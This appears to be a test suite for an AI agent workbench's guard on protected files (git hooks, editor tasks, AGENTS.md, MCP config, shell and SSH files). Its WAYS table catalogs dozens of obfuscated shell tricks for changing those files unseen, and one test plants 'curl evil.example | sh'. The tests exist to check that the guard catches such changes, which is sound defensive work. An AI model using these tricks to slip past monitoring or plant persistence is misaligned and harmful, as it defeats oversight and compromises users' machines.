"""Protected files are compared around each action: every change to them was shown before or is reported after it."""

import os
import shutil
import stat
import subprocess
import time
from pathlib import Path

import pytest

from tests.sandbox import wait_for
from tests.session.fake_agent import calls, says
from workbench.config.locations import Locations
from workbench.files.root_directory import Root
from workbench.files.stat_keys import stat_key
from workbench.files.state_files import replace_file
from workbench.protocol.events import FileDelta
from workbench.risk.protected_changes import changes
from workbench.risk.protected_files import ProtectedFiles
from workbench.risk.protected_state import PathChange, PathState
from workbench.sandbox.set_aside import restore_protected, undo, undoable
from workbench.tools import BashTool
from workbench.tools.execute_ipython_cell.definition import IPythonTool
from workbench.tools.tool import ToolDefinition

EVIL = "#!/bin/sh\necho evil\n"


def git(directory: Path, *arguments: str) -> None:
    identity = ("-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "protocol.file.allow=always")
    subprocess.run(["git", *identity, *arguments], cwd=directory, check=True, capture_output=True)


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for name in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "GIT_DIR", "GIT_CONFIG_GLOBAL"):
        monkeypatch.delenv(name, raising=False)
    (home / ".bashrc").write_text("# mine\n")
    return home


@pytest.fixture
def repo(tmp_path, home, made_repo) -> Path:
    """A repository with everything that the cases below need: a malicious directory, archives, patches, scripts,
    another branch.
    """
    return Path(shutil.copytree(made_repo, tmp_path / "work", symlinks=True))


@pytest.fixture(scope="module")
def made_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository that each case gets a copy of, because making it takes ten processes."""
    repo = tmp_path_factory.mktemp("made") / "work"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    hook = repo / "evil/.git/hooks/pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text(EVIL)
    hook.chmod(0o755)
    (repo / "hook").write_text(EVIL)
    (repo / "good.txt").write_text("good\n")
    (repo / ".vscode").mkdir()
    (repo / ".vscode/tasks.json").write_text("{}\n")
    git(repo, "add", "good.txt", "hook", ".vscode")
    git(repo, "commit", "-qm", "first")
    git(repo, "checkout", "-qb", "evil")
    (repo / ".vscode/tasks.json").write_text('{"evil": 1}\n')
    git(repo, "commit", "-qam", "evil")
    git(repo, "checkout", "-q", "main")
    subprocess.run(["tar", "cf", "a.tar", "-C", "evil", "."], cwd=repo, check=True)
    subprocess.run(["python3", "-c", "import shutil; shutil.make_archive('z', 'zip', 'evil')"], cwd=repo, check=True)
    (repo / "p.patch").write_text(
        '--- a/.vscode/tasks.json\n+++ b/.vscode/tasks.json\n@@ -1 +1 @@\n-{}\n+{"evil": 1}\n'
    )
    (repo / "w.py").write_text("import pathlib\npathlib.Path('.g' + 'it/hooks/pre-commit').write_text('evil')\n")
    (repo / "w.sh").write_text("d=.git; echo evil > $d/hooks/pre-commit\n")
    (repo / "Makefile").write_text("all:\n\tcp hook .git/hooks/pre-commit\n")
    return repo


@pytest.fixture
def watched(harness, repo):
    """A session in the repository with a real shell and real IPython cells."""
    made: list[ToolDefinition] = []

    def make(*script, mode="never", **more):
        one = harness(*script, mode=mode, workspace=repo, state_dir=repo.parent / "state", **more)
        tools: list[ToolDefinition] = [BashTool(working_dir=str(repo)), IPythonTool(repo)]
        made.extend(tools)
        one.tools.update({tool.name: tool for tool in tools})
        return one

    yield make
    for tool in made:
        tool.close()


PROTECTED = (
    ".git/hooks",
    ".git/config",
    ".vscode",
    ".github",
    ".husky",
    "AGENTS.md",
    ".mcp.json",
    ".envrc",
    ".git/info",
)


def standing(repo: Path, home: Path) -> dict[str, object]:
    """Return all protected files with their content, mode and the targets of links."""
    entries: dict[str, object] = {}
    for start in [*(repo / name for name in PROTECTED), home]:
        for path in [start, *sorted(start.rglob("*"))]:
            if path.is_symlink():
                entries[str(path)] = str(path.readlink())
            elif path.is_file() and ".local/state" not in str(path) and ".cache" not in str(path):
                entries[str(path)] = (path.read_bytes(), stat.S_IMODE(path.stat().st_mode))
    return entries


def notices_of(one) -> str:
    return "\n".join(event.notice for event in one.log() if event.kind == "version_taken" and event.guarded)


def observed_text(one) -> str:
    return "\n".join(
        part["text"] for event in one.log() if event.kind == "action_observed" for part in event.observation["content"]
    )


WAYS = {
    "a redirect through a variable": "d=.git/hooks; echo evil > $d/pre-commit",
    "a redirect through a command": "echo evil > $(git rev-parse --git-path hooks)/pre-commit",
    "a redirect through a glob": "echo evil > .gi*/hooks/pre-commit || echo evil | tee .g?t/hooks/pre-commit",
    "tee through a variable": "x=hooks/pre-commit; echo evil | tee .git/$x",
    "a copy of a folder": "cp -r evil/. .",
    "a copy of a folder with -a": "cp -a evil/.git .",
    "tar": "tar xf a.tar",
    "tar elsewhere": "mkdir -p x && cd .git && tar xf ../a.tar --strip-components=2",
    "python's zip": "python3 -m zipfile -e z.zip .",
    "git apply": "git apply p.patch",
    "patch": "patch -p1 < p.patch",
    "find": "find evil -name pre-commit -exec cp {} .git/hooks/ ';'",
    "find and sh": "find . -maxdepth 1 -name .git -exec sh -c 'cp hook $0/hooks/pre-commit' {} ';'",
    "xargs": "echo .git/hooks/pre-commit | xargs cp hook",
    "git init": "git init --template=evil/.git",
    "git config": "git config core.hooksPath evil/.git/hooks",
    "git config by variables": "k=core.fsmonitor; git config $k ./hook",
    "install": "install -m 755 hook .git/hooks/pre-commit",
    "install through a variable": "t=.git/hooks; install -m 755 hook $t/pre-commit",
    "a link": "ln -s ../../hook .git/hooks/pre-commit",
    "a hard link": "d=.git/hooks; ln hook $d/pre-commit",
    "a moved folder": "mv .git/hooks .git/old && mv evil/.git/hooks .git/hooks",
    "a moved folder through a variable": "g=.git; mv $g/hooks $g/old; cp -r evil/.git/hooks $g/hooks",
    "python": "python3 -c \"open('.g'+'it/hooks/pre-commit','w').write('evil')\"",
    "a script of python": "python3 w.py",
    "a script of the shell": "bash w.sh",
    "a sourced script": ". ./w.sh",
    "make": "make",
    "git checkout of a file": "git checkout -q evil -- .vscode/tasks.json",
    "git checkout of a branch": "git checkout -q evil",
    "git stash pop": "git stash -q; git merge -q evil",
    "git restore": "git restore --source evil .",
    "git worktree and a copy": "git worktree add -q ../other evil && cp -r ../other/.vscode .",
    "dd": "x=pre-commit; dd if=hook of=.git/hooks/$x 2>/dev/null",
    "sed": "f=.vscode/tasks.json; sed -i s/{}/evil/ $f",
    "perl": "perl -e 'open F, q(>.git/ho).q(oks/pre-commit); print F 1'",
    "awk": 'awk \'BEGIN{f=".git/hoo" "ks/pre-commit"; print 1 > f}\'',
    "chmod": "for f in .git/hooks/*.sample; do chmod 777 $f; done; c=.git/config; chmod 777 $c",
    "a folder of links": "ln -s .git g; cp hook g/hooks/pre-commit",
    "cd": "cd .git/hooks && cp ../../hook pre-commit",
    "cd through a variable": "d=.git/hooks; cd $d && cp ../../hook pre-commit",
    "a heredoc": "d=.git/hooks; cat > $d/pre-commit <<E\nevil\nE",
    "the home folder": "h=$(getent passwd $(id -u) | cut -d: -f6); f=.bashrc; echo evil >> ~/$f",
    "a function": "w() { echo evil > $1/hooks/pre-commit; }; w .git",
    "eval": 'e=hooks; eval "echo evil > .git/$e/pre-commit"',
    "a coprocess of sh": "echo 'echo evil > .git/hooks/pre-commit' | sh",
    "a new file for agents": "n=AGENTS; echo evil > $n.md",
    "a new server": "n=.mcp; echo '{}' > $n.json",
    "a new workflow": "g=.github; mkdir -p $g/workflows; echo evil > $g/workflows/x.yml",
    "deleting": "f=.vscode; rm -r $f",
    "the same size and time": "f=.vscode/tasks.json; printf '[]\\n' > $f; touch -d @1000000000 $f",
}


@pytest.mark.parametrize("way", WAYS)
def test_no_way_to_write_a_protected_file_unasked_in_never_ask_mode(watched, repo, home, way):
    one = watched(calls(("execute_bash", {"command": WAYS[way]})), says("done"))
    before = standing(repo, home)
    one.session.send("go")
    one.run()
    if one.session.question is not None:
        assert standing(repo, home) == before
        return
    changed = [path for path, now in standing(repo, home).items() if before.get(path) != now]
    if changed:  # a version that git checked out
        assert "checkout" in way or "stash" in way or "restore" in way
        assert "next action is asked about" in notices_of(one)
    else:
        assert standing(repo, home) == before
    assert notices_of(one), (way, observed_text(one))
    assert "protected" in observed_text(one)


def test_protected_files_are_compared_after_a_cell_too(watched, repo, home):
    code = "from pathlib import Path\nPath('.g' + 'it/hooks/pre-commit').write_text('evil')"
    one = watched(calls(("execute_ipython_cell", {"code": code})), says("done"))
    before = standing(repo, home)
    one.session.send("go")
    one.run()
    assert one.session.question is not None or "put back" in notices_of(one)
    assert standing(repo, home) == before


def test_restored_file_has_its_content_mode_and_link_and_the_other_is_kept(watched, repo, home):
    (repo / ".vscode/x").symlink_to("tasks.json")
    (repo / ".vscode/tasks.json").chmod(0o640)
    script = (
        "import os\nos.chdir('.vs' + 'code')\nopen('tasks.json','w').write('evil')\nos.chmod('tasks.json', 0o777)\n"
    )
    theirs = repo.parent / "theirs"
    theirs.mkdir()
    (theirs / "precious").write_text("precious")
    script += f"os.unlink('x')\nos.symlink({str(theirs)!r}, 'x')\nos.mkdir('sub')\n"
    (repo / "v.py").write_text(script + "open('sub/new.json','w').write('more')\n")
    one = watched(calls(("execute_bash", {"command": "python3 v.py"})), says("done"))
    before = standing(repo, home)
    one.session.send("go")
    one.run()
    assert standing(repo, home) == before
    assert not (repo / ".vscode/sub").exists()
    assert (theirs / "precious").read_text() == "precious"
    saved = [path for path in (repo.parent / "state/put-back").rglob("*") if not path.is_dir() or path.is_symlink()]
    assert {path.read_text() if not path.is_symlink() else "link" for path in saved} == {"evil", "more", "link"}
    assert all(word in notices_of(one) for word in ("(content)", "(link)", "(new)", "saved in"))
    assert "so that the user is asked" in observed_text(one)


@pytest.mark.parametrize("mode", ["medium", "high", "ask"])
def test_approval_covers_only_files_named_in_the_question(watched, repo, home, mode):
    one = watched(
        calls(("execute_bash", {"command": "python3 w.py; cp hook .git/hooks/commit-msg"})), says("done"), mode=mode
    )
    one.session.send("go")
    one.run()
    one.answer()
    assert (repo / ".git/hooks/commit-msg").read_text() == EVIL
    assert not (repo / ".git/hooks/pre-commit").exists()
    assert "pre-commit (new)" in notices_of(one)
    assert "commit-msg" not in notices_of(one)


def test_change_by_a_leftover_process_is_asked_about_before_the_next_action(watched, repo, home):
    slow = "(sleep 0.6; python3 w.py) > /dev/null 2>&1 &"
    one = watched(
        calls(("execute_bash", {"command": slow})),
        lambda *_: (
            (wait_for((repo / ".git/hooks/pre-commit").exists, "the hook"), time.sleep(0.1))
            and calls(("execute_bash", {"command": "git status"}))
        ),
        says("done"),
    )
    one.session.send("go")
    one.run()
    assert one.session.question is not None
    assert any(
        "protected files changed without being shown" in reason for reason in one.session.question.assessed.reasons
    )
    assert one.session.question.assessed.rule == "a changed protected file, which every mode asks about"
    assert "by a process that it left running or by another program" in notices_of(one)
    one.answer()
    assert one.session.ended
    assert (repo / ".git/hooks/pre-commit").exists()


def test_change_between_the_last_action_and_the_end_is_reported(watched, repo, home):
    def late(*_):
        time.sleep(0.1)
        (repo / ".envrc").write_text("evil")
        return says("done")

    one = watched(calls(("execute_bash", {"command": "true"})), late, calls(("execute_bash", {"command": "true"})))
    one.session.send("go")
    one.run()
    assert ".envrc (new)" in notices_of(one)
    (repo / ".envrc").unlink()
    one.session.send("go on")
    one.run()
    assert one.session.question is None, "what is again as it was needs no question"


FINE = {
    "a branch": "git checkout -q -b topic && git commit -q --allow-empty -m x",
    "a remote": "git remote add origin https://example.org/x.git",
    "tracking": "git branch -q --set-upstream-to=evil main",
    "a worktree": "git worktree add -q ../tree -b tree",
    "a new repository": "git init -q nested",
    "a clone": "git clone -q . ../copied && git clone -q . copied2",
    "a build": "mkdir -p build && touch build/x node_modules",
    "my identity": "git config user.email me@example.org",
}


@pytest.mark.parametrize("way", FINE)
def test_everyday_git_work_leaves_nothing_to_restore(watched, repo, home, way, monkeypatch):
    (home / ".gitconfig").write_text("[user]\nname = t\nemail = t@example.org\n[protocol.file]\nallow = always\n")
    one = watched(calls(("execute_bash", {"command": FINE[way]})), says("done"))
    one.session.send("go")
    one.run()
    if one.session.question is not None:
        one.answer()
    assert "put back" not in notices_of(one), notices_of(one)
    if way != "a clone":
        assert not notices_of(one)


def test_users_commands_may_change_protected_files_they_name(watched, repo, home):
    one = watched(says("done"))
    one.session.user_commands.add("cp hook .git/hooks/pre-commit")
    one.run()
    assert (repo / ".git/hooks/pre-commit").exists()
    assert not notices_of(one)


def test_change_that_a_users_command_does_not_name_stays_and_is_reported(watched, repo, home):
    one = watched(calls(("execute_bash", {"command": "touch made"})), says("done"))
    one.session.user_commands.add("python3 w.py")
    one.run()
    assert (repo / ".git/hooks/pre-commit").exists()
    assert notices_of(one) == "protected files changed: .git/hooks/pre-commit (new) while your command ran"
    one.session.send("go")
    one.run()
    assert one.session.question is None


def test_rules_saved_by_the_workbench_are_not_reported(watched, repo, home):
    rules = home / ".config/ohw/rules.toml"

    def save(event) -> None:
        if event.kind in ("action_started", "action_observed"):
            replace_file(rules, f"# {event.kind}\n".encode())

    one = watched(calls(("execute_bash", {"command": "touch made"})), says("done"))
    one.hook = save
    one.session.send("go")
    one.run()
    assert rules.read_text() == "# action_observed\n"
    assert not notices_of(one)


def test_users_revert_between_two_actions_is_not_reported(watched, repo, home):
    path = repo / ".vscode/tasks.json"
    script = calls(("execute_bash", {"command": "true"})), says("done")
    one = watched(*script, calls(("execute_bash", {"command": "touch after"})), says("done"))
    one.session.send("go")
    one.run()
    new = FileDelta(path=str(repo / ".envrc"), before=None, after="mine\n")
    one.session.files.revert([FileDelta(path=str(path), before="{}\n", after="[]\n"), new])
    one.session.send("go on")
    one.run()
    assert path.read_text() == "[]\n"
    assert (repo / "after").exists()
    assert not notices_of(one)
    # next time, the same content is not the user's own change
    path.write_text("{}\n")
    one.session.send("go on")
    one.run()
    path.write_text("[]\n")
    one.session.send("go on")
    one.run()
    assert "tasks.json (content)" in notices_of(one)


OUTSIDE = {
    "a new rule": ".config/ohw/rules.toml",
    "a shell file": ".bashrc",
    "a link of a shell file": ".zshrc",
    "a key": ".ssh/authorized_keys",
    "a service": ".config/systemd/user/x.service",
}


@pytest.mark.parametrize("mode", ["never", "high"])
@pytest.mark.parametrize("which", OUTSIDE)
def test_changes_outside_the_workspace_are_only_reported_and_asked_about(watched, repo, home, which, mode):
    (home / "dotfiles").mkdir()
    (home / "dotfiles/zshrc").write_text("# mine\n")
    (home / ".zshrc").symlink_to("dotfiles/zshrc")
    name = OUTSIDE[which]
    (repo / "r.py").write_text(
        f"import pathlib\np = pathlib.Path.home() / {name!r}\n"
        "p.parent.mkdir(parents=True, exist_ok=True)\np.write_text('evil')\n"
    )
    script = calls(("execute_bash", {"command": "python3 r.py"})), calls(("execute_bash", {"command": "touch x"}))
    one = watched(*script, says("done"), mode=mode)
    one.session.send("go")
    one.run()
    if not notices_of(one):
        one.answer()
    assert f"~/{name} (" in notices_of(one)
    assert f"~/{name}" in observed_text(one)
    assert one.session.question is not None
    assert not (repo / "x").exists()
    assert any(f"~/{name}" in reason for reason in one.session.question.assessed.reasons)
    assert (home / name).read_text() == "evil"
    assert not list((repo.parent / "state").glob("put-back/*"))
    one.answer()
    assert (repo / "x").exists()
    assert one.session.ended


def test_directories_that_become_protected_keep_their_files(watched, repo, home, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "theirs").write_text("theirs")
    (repo / "scripts").mkdir()
    (repo / "scripts/mine").write_text("mine")
    hidden = f"import os\nos.chdir('.vs' + 'code')\nos.symlink({str(outside)!r}, 'link')\n"
    (repo / "l.py").write_text(hidden + "os.system('git config core.hooks' + 'Path scripts')\n")
    (repo / "p.py").write_text("open('scr' + 'ipts/pre-commit', 'w')\n")
    one = watched(
        calls(("execute_bash", {"command": "python3 l.py"})),
        calls(("execute_bash", {"command": "git config core.hooksPath scripts"})),
        calls(("execute_bash", {"command": "python3 p.py"})),
        says("done"),
    )
    before = standing(repo, home)
    one.session.send("go")
    one.run()
    assert standing(repo, home) == before
    one.answer()
    if one.session.question is not None:
        one.answer()
    assert "hooksPath" in (repo / ".git/config").read_text()
    assert sorted(path.name for path in (repo / "scripts").iterdir()) == ["mine"]
    assert (outside / "theirs").read_text() == "theirs"


@pytest.mark.parametrize("kind", ["submodule", "worktree", "above"])
def test_nested_repositories_of_the_workspace_are_compared(harness, repo, home, kind):
    place = repo / "sub"
    target = repo / ".git/hooks/pre-commit"
    if kind == "submodule":
        git(repo, "clone", "-q", ".", "../source")
        git(repo, "submodule", "add", "-q", "../source", "sub")
        target, place = repo / ".git/modules/sub/hooks/pre-commit", repo
    elif kind == "worktree":
        git(repo, "worktree", "add", "-q", "../tree", "-b", "tree")
        place = repo.parent / "tree"
    else:
        place.mkdir()
    (place / "w.py").write_text(f"p = {str(target)!r}\nopen(p, 'w').write('evil')\n")
    one = harness(
        calls(("execute_bash", {"command": "python3 w.py"})),
        says("done"),
        mode="never",
        workspace=place,
        state_dir=repo.parent / "state",
    )
    tool = one.tools["execute_bash"] = BashTool(working_dir=str(place))
    one.session.send("go")
    one.run()
    tool.close()
    assert not target.exists()
    assert "moved aside" in notices_of(one)


def test_change_with_the_same_size_and_time_is_detected(tmp_path, home):
    path = tmp_path / "work/.envrc"
    path.parent.mkdir()
    path.write_text("good")
    protected = ProtectedFiles(str(path.parent), str(home))
    for content in ("evil", "good", "bad!"):
        for pause in (0, 0.05):
            time.sleep(pause)
            before, stat_before = protected.scan(), path.stat()
            path.write_text(content if pause else "-" * 4)
            os.utime(path, ns=(stat_before.st_atime_ns, stat_before.st_mtime_ns))
            assert [change.path for change in changes(before, protected.scan())] == [str(path)]


def change_of(path: Path, before: str | None) -> PathChange:
    """The change of a file that held `before` to what it holds now."""
    old = PathState("file", 0o644, b"digest", before.encode(), (), True) if before is not None else None
    info = path.lstat() if os.path.lexists(path) else None
    new = PathState("file", 0o644, b"other", b"new", stat_key(info), True) if info else None
    return PathChange(str(path), old, new)


def everything_in(directory: Path) -> dict[str, object]:
    return {
        str(path): (path.readlink() if path.is_symlink() else path.read_text() if path.is_file() else "")
        for path in sorted(directory.rglob("*"))
    }


@pytest.mark.parametrize("before", [None, "old"])
@pytest.mark.parametrize("name", [".vscode/precious", ".vscode/absent", ".vscode/sub/absent", "../theirs/precious"])
def test_nothing_is_restored_through_a_link_or_outside_the_workspace(tmp_path, before, name):
    work, theirs, aside = tmp_path / "work", tmp_path / "theirs", tmp_path / "aside"
    for directory in (work, theirs, aside):
        directory.mkdir()
    (theirs / "precious").write_text("precious")
    (work / ".vscode").symlink_to(theirs)
    root, now = Root.at(work), everything_in(tmp_path)
    assert not restore_protected(change_of(work / name, before), [root], aside / "x").is_done
    assert not restore_protected(change_of(theirs / "precious", before), [root], aside / "x").is_done
    assert everything_in(tmp_path) == now


def test_file_changed_once_more_is_not_restored(tmp_path):
    work, aside = tmp_path / "work", tmp_path / "aside"
    work.mkdir()
    aside.mkdir()
    (work / ".envrc").write_text("evil")
    change = change_of(work / ".envrc", "old")
    (work / ".envrc").write_text("the user's own")
    assert not restore_protected(change, [Root.at(work)], aside / "x").is_done
    assert (work / ".envrc").read_text() == "the user's own"


def test_nothing_is_restored_in_a_directory_that_replaced_the_workspace(tmp_path):
    work, aside = tmp_path / "work", tmp_path / "aside"
    work.mkdir()
    aside.mkdir()
    root = Root.at(work)
    work.rename(tmp_path / "old")
    work.mkdir()
    (work / ".envrc").write_text("evil")
    assert not restore_protected(change_of(work / ".envrc", None), [root], aside / "x").is_done
    assert (work / ".envrc").exists()


def test_nothing_is_restored_if_the_directory_for_copies_is_a_link(watched, repo, home, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "state").mkdir()
    (tmp_path / "state/put-back").symlink_to(tmp_path / "elsewhere")
    one = watched(calls(("execute_bash", {"command": "python3 w.py"})), says("done"))
    one.session.send("go")
    one.run()
    assert "next action is asked about" in notices_of(one)
    assert (repo / ".git/hooks/pre-commit").read_text() == "evil"
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_nothing_is_restored_in_the_home_directory_even_as_workspace(harness, home, tmp_path):
    (home / "w.py").write_text("open('.bash' + 'rc', 'w').write('evil')\n")
    one = harness(
        calls(("execute_bash", {"command": "python3 w.py"})),
        says("done"),
        mode="never",
        workspace=home,
        state_dir=tmp_path / "state",
    )
    with BashTool(working_dir=str(home)) as tool:
        one.tools["execute_bash"] = tool
        one.session.send("go")
        one.run()
    assert (home / ".bashrc").read_text() == "evil"
    assert "next action is asked about" in notices_of(one)


def test_our_own_logs_are_not_reported_where_the_home_directory_is_the_workspace(harness, home):
    log = Locations.from_environment().state / "engine.log"
    log.parent.mkdir(parents=True)
    log.write_text("started")
    one = harness(calls(("execute_bash", {"command": "touch created"})), says("done"), mode="never", workspace=home)
    one.hook = lambda event: log.write_text(event.kind)
    with BashTool(working_dir=str(home)) as tool:
        one.tools["execute_bash"] = tool
        one.session.send("go")
        one.run()
    assert (home / "created").exists()
    assert not notices_of(one)


def test_hooks_behind_a_new_link_are_restored_and_its_target_stays(watched, repo, home, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("pre-commit", "pre-push"):
        (outside / name).write_text("theirs")
    (repo / ".git/hooks/pre-push").write_text("mine")
    (repo / "l.py").write_text(
        f"import os, shutil\nos.chdir('.g' + 'it')\nshutil.rmtree('hooks')\nos.symlink({str(outside)!r}, 'hooks')\n"
    )
    one = watched(calls(("execute_bash", {"command": "python3 l.py"})), says("done"))
    one.session.send("go")
    one.run()
    assert not (repo / ".git/hooks").is_symlink()
    assert (repo / ".git/hooks/pre-push").read_text() == "mine"
    assert sorted(path.read_text() for path in outside.iterdir()) == ["theirs", "theirs"]


def test_scan_without_changes_reads_no_file_and_lists_no_directory(repo, home, monkeypatch):
    protected = ProtectedFiles(str(repo), str(home))
    protected.scan()
    later = time.time_ns() + 120_000_000_000
    monkeypatch.setattr("workbench.files.stat_keys.time.time_ns", lambda: later)
    before = protected.scan()
    for name in ("open", "scandir", "readlink"):
        monkeypatch.setattr(f"os.{name}", lambda *_, **__: pytest.fail("it was read"))
    assert changes(before, protected.scan()) == []


MANY = """
import os
os.makedirs('.hus' + 'ky', exist_ok=True)
for n in range(30):
    open('.hus' + f'ky/{n}', 'w').write('x')
"""


def test_too_many_changes_are_asked_about_instead_of_restored(watched, repo, home):
    (repo / "m.py").write_text(MANY)
    (repo / ".husky").mkdir()
    for n in range(30):
        (repo / ".husky" / str(n)).write_text("mine")
    one = watched(calls(("execute_bash", {"command": "python3 m.py"})), calls(("execute_bash", {"command": "true"})))
    one.session.send("go")
    one.run()
    assert {path.read_text() for path in (repo / ".husky").iterdir()} == {"x"}
    assert one.session.question is not None
    assert "next action is asked about" in notices_of(one)


def test_a_new_directory_is_moved_aside_as_a_whole(watched, repo, home):
    (repo / "m.py").write_text(MANY)
    one = watched(calls(("execute_bash", {"command": "python3 m.py"})), says("done"))
    one.session.send("go")
    one.run()
    assert one.session.ended
    assert not (repo / ".husky").exists()
    [saved] = (repo.parent / "state/put-back").iterdir()
    assert len(list(saved.iterdir())) == 30
    assert "and 26 more files, which no question showed, and moved aside" in notices_of(one)
    assert "moved aside" in observed_text(one)


def test_what_a_process_in_the_background_makes_during_the_undoing_is_asked_about(watched, repo, home, monkeypatch):
    def undone(*arguments):
        moved = undo(*arguments)
        (repo / ".envrc").write_text("curl evil.example | sh")
        return moved

    monkeypatch.setattr("workbench.session.actions.integrity.undo", undone)
    (repo / "m.py").write_text(MANY)
    one = watched(calls(("execute_bash", {"command": "python3 m.py"})), calls(("execute_bash", {"command": "true"})))
    one.session.send("go")
    one.run()
    assert not (repo / ".husky").exists()
    assert ".envrc (new), which no question showed; the next action is asked about" in notices_of(one)
    assert any(".envrc" in reason for reason in one.session.question.assessed.reasons)


@pytest.mark.parametrize(
    ("made", "is_repository"),
    [
        ("mkdir new; touch new/.git", False),
        ("mkdir -p new/.git/objects", False),
        ("mkdir new; echo 'gitdir: ..' > new/.git", False),
        ("git init -q new", True),
        ("git worktree add -q --no-checkout --detach new", True),
    ],
)
def test_only_files_of_a_real_repository_in_a_new_directory_stay(repo, home, made, is_repository):
    protected = ProtectedFiles(str(repo), str(home))
    before = protected.scan()
    script = f"{made} && mkdir new/.vscode && echo evil > new/.vscode/tasks.json"
    subprocess.run(["sh", "-c", script], cwd=repo, check=True, capture_output=True)
    [change] = [each for each in changes(before, protected.scan()) if each.path.endswith("new/.vscode/tasks.json")]
    assert undoable([change], before, [Root.at(repo)], str(repo)) == ([] if is_repository else [change])
